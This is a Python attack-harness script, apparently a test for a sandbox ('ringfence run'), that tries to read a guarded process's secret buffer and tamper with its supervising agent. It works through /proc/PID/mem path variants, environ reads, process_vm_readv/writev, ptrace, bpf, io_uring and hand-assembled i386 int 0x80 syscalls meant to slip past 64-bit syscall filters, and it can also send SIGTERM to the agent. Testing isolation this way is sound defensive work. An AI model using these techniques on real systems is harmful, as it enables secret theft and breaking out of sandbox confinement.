"""What a step does to reach a scope root's memory, or tamper with the agent.

Usage: guard_attack.py MODE PID ADDRESS LENGTH

PID is the root (guard_root.py), ADDRESS and LENGTH its secret's buffer.
Every read lands in the file GUARD_SINK, mapped shared: what a read copied
is there even when the reader is killed before it can print. Prints
`read: <text>` with whatever it got, or `wrote: N`, `sent`, and `done` when
it survives; an error is printed as `error: ...`.

Modes: proc_mem, proc_mem_dotdot (/proc/self/../PID/mem), proc_mem_dirfd
(openat on a dirfd of /proc/PID), proc_mem_task (/proc/PID/task/PID/mem),
proc_mem_symlink (a symlink to /proc/PID/mem), proc_environ, vm_readv,
proc_mem_int80 (open by the i386 ABI), vm_readv_int80, vm_writev, ptrace_attach, ptrace_seize,
ptrace_traceme, bpf, bpf_int80, signal_agent (SIGTERM to the root's parent,
the agent of `ringfence run`), signal_agent_winch (SIGWINCH to it),
uring_open=HELPER (execs HELPER, a build of uring_open.c, which opens
/proc/PID/mem with io_uring's IORING_OP_OPENAT).
"""

import ctypes
import mmap
import os
import signal
import struct
import sys
import tempfile

mode, pid, address, length = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
libc = ctypes.CDLL(None, use_errno=True)
MAP_32BIT = 0x40


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def sink_buffer():
    """GUARD_SINK mapped shared, below 4 GiB (the i386 ABI's reach)."""
    fd = os.open(os.environ["GUARD_SINK"], os.O_RDWR)
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [
        ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int,
        ctypes.c_int, ctypes.c_long,
    ]
    page = libc.mmap(None, 4096, 3, mmap.MAP_SHARED | MAP_32BIT, fd, 0)
    if page in (None, ctypes.c_void_p(-1).value):
        sys.exit("mmap of the sink failed")
    return page


def show(data):
    print("read: " + data.decode(errors="replace").replace("\0", "."), flush=True)


def read_file(path, dir_fd=None):
    fd = os.open(path, os.O_RDONLY, dir_fd=dir_fd)
    sink = sink_buffer()
    libc.pread.restype = ctypes.c_ssize_t
    libc.pread.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_long]
    if path.endswith("environ"):
        got = libc.pread(fd, sink, 4096, 0)
    else:
        got = libc.pread(fd, sink, length, address)
    show(ctypes.string_at(sink, max(got, 0)))


def low_page():
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [
        ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int,
        ctypes.c_int, ctypes.c_long,
    ]
    page = libc.mmap(None, 4096, 7, 0x2 | 0x20 | MAP_32BIT, -1, 0)
    if page in (None, ctypes.c_void_p(-1).value):
        sys.exit("mmap MAP_32BIT failed")
    return page


def int80(number, ebx, ecx, edx, esi, edi):
    """Calls syscall `number` of the i386 ABI with `int $0x80`."""
    page = low_page()
    code = (
        b"\x53\x55"  # push rbx; push rbp
        + b"\xb8" + struct.pack("<I", number)
        + b"\xbb" + struct.pack("<I", ebx)
        + b"\xb9" + struct.pack("<I", ecx)
        + b"\xba" + struct.pack("<I", edx)
        + b"\xbe" + struct.pack("<I", esi)
        + b"\xbf" + struct.pack("<I", edi)
        + b"\x31\xed"  # xor ebp, ebp
        + b"\xcd\x80"  # int $0x80
        + b"\x5d\x5b\xc3"  # pop rbp; pop rbx; ret
    )
    ctypes.memmove(page, code, len(code))
    result = ctypes.CFUNCTYPE(ctypes.c_uint32)(page)()
    return result - (1 << 32) if result >= 0xFFFFF000 else result


def proc_mem_int80():
    page = low_page()
    path = f"/proc/{pid}/mem".encode() + b"\0"
    ctypes.memmove(page + 2048, path, len(path))
    fd = int80(5, page + 2048, os.O_RDONLY, 0, 0, 0)  # i386 open
    if fd < 0:
        print(f"error: open (int80) errno {-fd}")
        return
    sink = sink_buffer()
    libc.pread.restype = ctypes.c_ssize_t
    libc.pread.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_long]
    got = libc.pread(fd, sink, length, address)
    show(ctypes.string_at(sink, max(got, 0)))


def vm_readv():
    buffer = sink_buffer()
    local = Iovec(buffer, length)
    remote = Iovec(address, length)
    libc.process_vm_readv.restype = ctypes.c_ssize_t
    got = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    if got < 0:
        print(f"error: process_vm_readv errno {ctypes.get_errno()}")
    show(ctypes.string_at(buffer, length))


def vm_readv_int80():
    page = low_page()
    buffer = sink_buffer()
    # compat iovecs: {u32 base, u32 len}, local then remote
    iovecs = page + 1024
    ctypes.memmove(iovecs, struct.pack("<4I", buffer, length, address, length), 16)
    got = int80(347, pid, iovecs, 1, iovecs + 8, 1)
    if got < 0:
        print(f"error: process_vm_readv (int80) errno {-got}")
    show(ctypes.string_at(buffer, length))


def vm_writev():
    data = b"X" * length
    local = Iovec(ctypes.cast(ctypes.c_char_p(data), ctypes.c_void_p), length)
    remote = Iovec(address, length)
    libc.process_vm_writev.restype = ctypes.c_ssize_t
    got = libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    print(f"wrote: {got}")


def ptrace(request):
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if libc.ptrace(request, pid, None, None) < 0:
        print(f"error: ptrace errno {ctypes.get_errno()}")
        return
    if request == 16:
        os.waitpid(pid, 0)
    else:
        libc.ptrace(0x4207, pid, None, None)  # PTRACE_INTERRUPT
        os.waitpid(pid, 0)
    sink = sink_buffer()
    for offset in range(0, length, 8):
        word = libc.ptrace(2, pid, ctypes.c_void_p(address + offset), None)
        ctypes.memmove(sink + offset, struct.pack("<q", word), 8)
    show(ctypes.string_at(sink, length))
    libc.ptrace(17, pid, None, None)  # PTRACE_DETACH


def bpf(int80_abi):
    # BPF_LINK_GET_NEXT_ID: where a detach of the agent's links starts
    attr = ctypes.create_string_buffer(16)
    if int80_abi:
        page = low_page()
        got = int80(357, 31, page, 16, 0, 0)
    else:
        libc.syscall.restype = ctypes.c_long
        got = libc.syscall(321, 31, attr, 16)
    print(f"bpf returned {got}")


def main():
    if mode == "proc_mem":
        read_file(f"/proc/{pid}/mem")
    elif mode == "proc_mem_dotdot":
        read_file(f"/proc/self/../{pid}/mem")
    elif mode == "proc_mem_dirfd":
        read_file("mem", dir_fd=os.open(f"/proc/{pid}", os.O_RDONLY | os.O_DIRECTORY))
    elif mode == "proc_mem_task":
        read_file(f"/proc/{pid}/task/{pid}/mem")
    elif mode == "proc_mem_symlink":
        link = os.path.join(tempfile.mkdtemp(), "memory")
        os.symlink(f"/proc/{pid}/mem", link)
        read_file(link)
    elif mode == "proc_environ":
        read_file(f"/proc/{pid}/environ")
    elif mode == "proc_mem_int80":
        proc_mem_int80()
    elif mode == "vm_readv":
        vm_readv()
    elif mode == "vm_readv_int80":
        vm_readv_int80()
    elif mode == "vm_writev":
        vm_writev()
    elif mode == "ptrace_attach":
        ptrace(16)
    elif mode == "ptrace_seize":
        ptrace(0x4206)
    elif mode == "ptrace_traceme":
        libc.ptrace.restype = ctypes.c_long
        print(f"traceme returned {libc.ptrace(0, 0, None, None)}")
    elif mode == "bpf":
        bpf(False)
    elif mode == "bpf_int80":
        bpf(True)
    elif mode in ("signal_agent", "signal_agent_winch"):
        with open(f"/proc/{pid}/stat") as stat:
            agent = int(stat.read().rsplit(")", 1)[1].split()[1])
        os.kill(agent, signal.SIGTERM if mode == "signal_agent" else signal.SIGWINCH)
        print(f"sent to {agent}")
    elif mode.startswith("uring_open="):
        sys.stdout.flush()
        helper = mode.split("=", 1)[1]
        os.execv(helper, [helper, f"/proc/{pid}/mem", str(address), str(length),
                          os.environ["GUARD_SINK"]])
    else:
        sys.exit(f"unknown mode {mode}")
    print("done", flush=True)


main()
